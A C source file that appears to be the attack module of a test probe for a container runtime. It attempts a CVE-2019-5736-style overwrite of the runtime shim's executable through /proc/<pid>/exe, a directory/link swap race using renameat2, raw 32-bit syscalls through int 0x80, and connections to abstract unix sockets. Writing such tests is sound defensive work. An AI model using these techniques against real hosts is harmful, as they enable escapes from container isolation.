#include <linux/un.h>

#include "../shim/text.h"
#include "probe.h"

#define AF_UNIX 1
#define SOCK_STREAM 1
#define SOCK_SEQPACKET 5
#define RENAME_EXCHANGE 2u
#define FLIPS_PER_LOOK 64
#define MOST_PIDS 4096
#define MOST_HELD 64

static void put_count(const char *key, int64_t count) {
	put(key);
	put(" ");
	put_number(count);
	put_line();
}

static uint64_t after(const char *seconds) {
	return sys_clock(SYS_CLOCK_MONOTONIC) + (uint64_t)number(seconds) * NS_PER_S;
}

/* Exchanges two names until the time is over, as fast as it goes: a directory and a link turn into each other. */
static int flip(const char *a, const char *b, const char *seconds) {
	uint64_t end = after(seconds);
	int64_t flips = 0;
	long result = 0;
	put("ready");
	put_line();
	while (result == 0 && (flips % FLIPS_PER_LOOK != 0 || sys_clock(SYS_CLOCK_MONOTONIC) < end)) {
		result = sys_call(__NR_renameat2, AT_FDCWD, (long)a, AT_FDCWD, (long)b, RENAME_EXCHANGE, 0);
		flips += result == 0;
	}
	put_count("flips", flips);
	return put_result("flip", result);
}

static const char *process_file(int64_t pid, const char *name) {
	static char path[64];
	struct text t = {.at = path, .size = sizeof path};
	text_string(&t, "/proc/");
	text_unsigned(&t, (uint64_t)pid);
	text_string(&t, name);
	return text_end(&t);
}

static const char *descriptor_path(int fd) {
	static char path[64];
	struct text t = {.at = path, .size = sizeof path};
	text_string(&t, "/proc/self/fd/");
	text_unsigned(&t, (uint64_t)fd);
	return text_end(&t);
}

static int is_shim(const char *path) {
	char target[64];
	long length = sys_call(__NR_readlinkat, AT_FDCWD, (long)path, (long)target, sizeof target, 0, 0);
	for (long i = 0; i + 10 <= length; i++)
		if (memcmp(target + i, "berth-shim", 10) == 0)
			return 1;
	return 0;
}

/* CVE-2019-5736: holds the programs of processes that pass by and tries to write to them, until the time is over. Says how many it saw, held and wrote. */
static int overwrite_programs(const char *seconds) {
	uint64_t end = after(seconds);
	int held[MOST_HELD];
	int holds = 0;
	int64_t seen = 0;
	int64_t wrote = 0;
	put("ready");
	put_line();
	while (sys_clock(SYS_CLOCK_MONOTONIC) < end) {
		for (int64_t pid = 2; pid < MOST_PIDS && sys_clock(SYS_CLOCK_MONOTONIC) < end; pid++) {
			int fd = sys_openat(AT_FDCWD, process_file(pid, "/exe"), O_RDONLY, 0);
			if (fd == -ENOENT)
				continue;
			seen++;
			if (fd < 0)
				continue;
			if (holds < MOST_HELD && is_shim(descriptor_path(fd)))
				held[holds++] = fd;
			else
				sys_close(fd);
		}
		for (int i = 0; i < holds; i++) {
			int fd = sys_openat(AT_FDCWD, descriptor_path(held[i]), O_WRONLY, 0);
			if (fd < 0)
				continue;
			wrote += sys_write(fd, "#!/evil", 7) > 0;
			sys_close(fd);
		}
	}
	put_count("seen", seen);
	put_count("held", holds);
	put_count("wrote", wrote);
	return 0;
}

/* The 32-bit entry of x86-64, which has numbers of its own. */
static int foreign_call(char **arguments) {
#if defined(__x86_64__)
	long values[4] = {0};
	long result = 0;
	for (int i = 0; i < 4 && arguments[i] != 0; i++)
		values[i] = number(arguments[i]);
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(values[0]), "b"(values[1]), "c"(values[2]), "d"(values[3]) : "memory", "r8", "r9", "r10", "r11");
	result = (int)result;
#else
	long result = -ENOSYS;
	(void)arguments;
#endif
	if (sys_is_error(result))
		return put_result("foreign", result);
	put_count("foreign", result);
	return 0;
}

/* To a unix socket; a name that begins with "@" is an abstract one. */
static int connect_to(const char *name) {
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	size_t length = strlen(name);
	if (length >= sizeof address.sun_path)
		return put_result("connect", -ENAMETOOLONG);
	memcpy(address.sun_path, name, length);
	if (name[0] == '@')
		address.sun_path[0] = 0;
	long result = -EPROTOTYPE;
	for (int type = SOCK_STREAM; result == -EPROTOTYPE && type <= SOCK_SEQPACKET; type += SOCK_SEQPACKET - SOCK_STREAM) {
		int fd = (int)sys_call(__NR_socket, AF_UNIX, type, 0, 0, 0, 0);
		if (fd < 0)
			return put_result("connect", fd);
		result = sys_call(__NR_connect, fd, (long)&address, (long)(offsetof(struct sockaddr_un, sun_path) + length + (name[0] != '@')), 0, 0, 0);
		sys_close(fd);
	}
	return put_result("connect", result);
}

int attack_command(char **arguments) {
	const char *name = arguments[0];
	char **rest = arguments + 1;
	if (*rest == 0)
		return -1;
	if (same(name, "connect"))
		return connect_to(*rest);
	if (same(name, "foreign-call"))
		return foreign_call(rest);
	if (same(name, "overwrite-programs"))
		return overwrite_programs(*rest);
	return same(name, "flip") && rest[1] != 0 && rest[2] != 0 ? flip(rest[0], rest[1], rest[2]) : -1;
}
